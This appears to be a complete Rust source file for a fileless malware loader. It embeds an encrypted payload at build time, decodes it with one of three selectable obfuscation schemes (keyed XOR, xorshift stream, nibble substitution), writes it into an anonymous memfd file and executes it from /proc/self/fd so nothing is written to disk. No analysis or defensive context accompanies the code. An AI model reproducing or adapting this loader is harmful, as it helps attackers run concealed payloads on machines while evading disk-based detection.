//! A loader in Rust: the payload is a constant, decoded in memory and run from an anonymous file.
use std::env;
use std::fs::File;
use std::io::Write;
use std::os::fd::FromRawFd;
use std::os::unix::process::CommandExt;
use std::process::{exit, Command};

static PAYLOAD: &[u8] = include_bytes!(env!("PAYLOAD"));
static KEY: &[u8] = env!("KEY").as_bytes();

extern "C" {
    fn memfd_create(name: *const u8, flags: u32) -> i32;
}

#[cfg(mode = "xor")]
fn decode() -> Vec<u8> {
    PAYLOAD.iter().enumerate().map(|(at, byte)| byte ^ KEY[at % KEY.len()]).collect()
}

#[cfg(mode = "stream")]
fn decode() -> Vec<u8> {
    let mut state = KEY.iter().fold(0x9e37_79b9_7f4a_7c15_u64, |sum, byte| {
        (sum ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3)
    });
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state as u8
    };
    PAYLOAD.iter().map(|byte| byte ^ next()).collect()
}

#[cfg(mode = "nibbles")]
fn decode() -> Vec<u8> {
    let value = |letter: u8| KEY.iter().position(|known| *known == letter).unwrap_or(0) as u8;
    PAYLOAD.chunks(2).map(|pair| value(pair[0]) << 4 | value(pair[1])).collect()
}

fn main() {
    let plain = decode();
    // SAFETY: the name is a terminated string, and the new descriptor has no other owner.
    let number = unsafe { memfd_create(b"\0".as_ptr(), 0) };
    if number < 0 {
        exit(1);
    }
    let mut file = unsafe { File::from_raw_fd(number) };
    if file.write_all(&plain).is_err() {
        exit(1);
    }
    let _ = Command::new(format!("/proc/self/fd/{number}")).args(env::args().skip(1)).exec();
    exit(1);
}
